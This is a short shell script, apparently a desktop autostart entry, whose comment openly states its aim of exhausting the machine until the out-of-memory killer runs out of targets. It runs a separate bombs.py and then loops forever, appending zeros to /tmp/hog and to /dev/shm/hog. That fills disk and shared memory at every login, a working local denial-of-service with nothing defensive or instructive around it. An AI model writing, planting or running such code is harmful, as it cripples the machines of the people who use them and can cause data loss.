# A desktop's autostart: after bombs.py, files that no end of a program gives back, until the out-of-memory killer has nothing else to take.
bombs() {
    python3 /home/user/bombs.py
    while :; do
        cat /dev/zero >>/tmp/hog
        cat /dev/zero >>/dev/shm/hog
    done
}
bombs &
